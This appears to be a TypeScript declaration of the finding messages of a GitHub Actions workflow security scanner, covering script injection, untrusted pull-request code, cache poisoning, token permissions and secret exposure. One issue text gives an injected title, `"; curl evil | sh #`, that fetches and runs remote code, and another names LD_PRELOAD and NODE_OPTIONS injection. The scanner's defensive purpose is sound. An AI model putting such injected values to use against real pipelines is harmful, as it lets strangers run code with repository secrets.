export declare const WORKFLOW_PROBLEMS: {
    readonly 'workflow-script-injection': {
        readonly severity: 'HIGH';
        readonly category: 'injection';
        readonly cwe: 'CWE-94';
        readonly dimension: 'D8';
        readonly title: 'Text of a stranger becomes part of a script: {what}';
        readonly issue: 'The expression is put into the script before it is read, so a title such as `"; curl evil | sh #` runs as a command with the rights of the workflow. Source: `{what}`.';
        readonly recommendation: 'Hand it over as a variable: `env: { VALUE: ${{ … }} }` and `"$VALUE"` (in JavaScript `process.env.VALUE`).';
    };
    readonly 'workflow-environment-injection': {
        readonly severity: 'HIGH';
        readonly category: 'injection';
        readonly cwe: 'CWE-77';
        readonly dimension: 'D8';
        readonly title: 'Text of a stranger is written to the environment of later steps';
        readonly issue: 'A line break in it adds a variable such as `LD_PRELOAD` or `NODE_OPTIONS`, and later steps run what it names.';
        readonly recommendation: 'Use a step output and read it as a variable, or allow known values only: `[[ "$V" =~ ^[a-z0-9-]+$ ]]`.';
    };
    readonly 'workflow-input-in-script': {
        readonly severity: 'LOW';
        readonly category: 'injection';
        readonly cwe: 'CWE-94';
        readonly dimension: 'D8';
        readonly title: 'An input becomes part of a script: {what}';
        readonly issue: 'Whatever a caller passes as `{what}` is read as commands; a caller that passes a title or a branch name is open.';
        readonly recommendation: 'Hand it over as a variable: `env: { VALUE: ${{ {what} }} }` and `"$VALUE"`.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-runs-stranger-code': {
        readonly severity: 'HIGH';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-829';
        readonly dimension: 'D10';
        readonly title: 'Code of a stranger runs with the rights of the repository';
        readonly issue: 'The run has secrets and a token that can write, checks out the code of the pull request, and then builds or runs it.';
        readonly recommendation: 'Build on `pull_request` without secrets, and let a `workflow_run` that never executes that code do the rest.';
    };
    readonly 'workflow-checks-out-stranger-code': {
        readonly severity: 'MEDIUM';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-829';
        readonly dimension: 'D10';
        readonly title: 'Code of a stranger is checked out in a run with rights';
        readonly issue: 'Nothing here runs it yet, but the next step that installs, builds or lints will do so with secrets at hand.';
        readonly recommendation: 'Check out the base and read the change as data, or use `pull_request` with `persist-credentials: false`.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-trusts-artifact': {
        readonly severity: 'HIGH';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-829';
        readonly dimension: 'D10';
        readonly title: 'Files made by an unprivileged run are trusted';
        readonly issue: 'The artifact may come from a pull request of a stranger, and what it holds is executed or put over the checkout.';
        readonly recommendation: 'Unpack it outside the workspace (`path: ${{ runner.temp }}/pr`), read single values and check their form.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-cache-poisoning': {
        readonly severity: 'MEDIUM';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-349';
        readonly dimension: 'D10';
        readonly title: 'Code of a stranger can fill the cache of the main branch';
        readonly issue: 'This run belongs to the default branch, so what it stores is restored by later runs, releases too.';
        readonly recommendation: 'Leave out the cache in runs that handle code of pull requests.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-unpinned-action': {
        readonly severity: 'LOW';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-829';
        readonly dimension: 'D10';
        readonly title: 'Actions of others are named by a tag that can be moved';
        readonly issue: 'Whoever controls these repositories can move the tag and run other code with the secrets of this workflow: {what}.';
        readonly recommendation: 'Pin the commit and note the version: `uses: owner/name@<40 hex digits> # v4.1.0`.';
    };
    readonly 'workflow-all-permissions': {
        readonly severity: 'MEDIUM';
        readonly category: 'auth';
        readonly cwe: 'CWE-732';
        readonly dimension: 'D8';
        readonly title: 'The token of the workflow may write everything';
        readonly issue: 'With `write-all` every action and script of the run can push code, change releases and packages.';
        readonly recommendation: 'Start from `permissions: { contents: read }` and add to a job what it needs.';
    };
    readonly 'workflow-default-permissions': {
        readonly severity: 'LOW';
        readonly category: 'auth';
        readonly cwe: 'CWE-732';
        readonly dimension: 'D8';
        readonly title: 'The rights of the token are not stated';
        readonly issue: 'Strangers can start this workflow, and in older repositories a token without `permissions` may write everything.';
        readonly recommendation: 'State them: `permissions: { contents: read }` at the top, more only in the job that needs it.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-prints-secret': {
        readonly severity: 'MEDIUM';
        readonly category: 'secrets';
        readonly cwe: 'CWE-532';
        readonly dimension: 'D8';
        readonly title: 'A secret is written to the log: {what}';
        readonly issue: 'Masking covers the exact value only; parts, encodings and multi-line values appear in the log.';
        readonly recommendation: 'Remove the output; to test that it is set use `[ -n "$TOKEN" ]`.';
        readonly confidence: 'medium';
    };
    readonly 'workflow-all-secrets': {
        readonly severity: 'MEDIUM';
        readonly category: 'secrets';
        readonly cwe: 'CWE-522';
        readonly dimension: 'D8';
        readonly title: 'All secrets are handed over at once';
        readonly issue: 'The receiver gets every secret of the repository and the organization, also those added later: {what}.';
        readonly recommendation: 'Name the ones it needs: `secrets: { token: ${{ secrets.DEPLOY_TOKEN }} }`.';
    };
    readonly 'workflow-self-hosted-runner': {
        readonly severity: 'LOW';
        readonly category: 'supply-chain';
        readonly cwe: 'CWE-829';
        readonly dimension: 'D10';
        readonly title: 'Pull requests run on a machine of your own';
        readonly issue: 'If the repository is public, code of a stranger runs there and can stay there for the next run.';
        readonly recommendation: 'Use hosted or one-time runners for pull requests, or require approval for every outside contributor.';
        readonly confidence: 'low';
    };
    readonly 'workflow-unsecure-commands': {
        readonly severity: 'MEDIUM';
        readonly category: 'injection';
        readonly cwe: 'CWE-77';
        readonly dimension: 'D8';
        readonly title: 'Commands in the log may change the environment';
        readonly issue: 'With `ACTIONS_ALLOW_UNSECURE_COMMANDS` any output of a tool that contains `::set-env` sets variables.';
        readonly recommendation: 'Remove it and write to `$GITHUB_ENV` where a variable is meant.';
    };
    readonly 'workflow-condition-always-true': {
        readonly severity: 'MEDIUM';
        readonly category: 'auth';
        readonly cwe: 'CWE-571';
        readonly dimension: 'D8';
        readonly title: 'The condition is always true';
        readonly issue: 'Text outside of `${{ }}` makes the whole a string that is not empty, so the step or job always runs.';
        readonly recommendation: 'Put everything into one expression, or leave the braces out: `if: a == b && c`.';
    };
    readonly 'workflow-spoofable-bot': {
        readonly severity: 'LOW';
        readonly category: 'auth';
        readonly cwe: 'CWE-290';
        readonly dimension: 'D8';
        readonly title: 'The check for a bot can be evaded';
        readonly issue: '`github.actor` is whoever caused the last event, not who wrote the code: a stranger can make the bot act on theirs.';
        readonly recommendation: "Compare the author: `github.event.pull_request.user.login == 'dependabot[bot]'`.";
        readonly confidence: 'medium';
    };
    readonly 'workflow-uploads-credentials': {
        readonly severity: 'MEDIUM';
        readonly category: 'secrets';
        readonly cwe: 'CWE-522';
        readonly dimension: 'D8';
        readonly title: 'The uploaded folder holds the token of the run';
        readonly issue: 'The checkout keeps its token in `.git/config`, and the whole workspace is uploaded for everyone to download.';
        readonly recommendation: 'Add `with: { persist-credentials: false }` to the checkout, or upload only the folder that is needed.';
        readonly confidence: 'medium';
    };
};
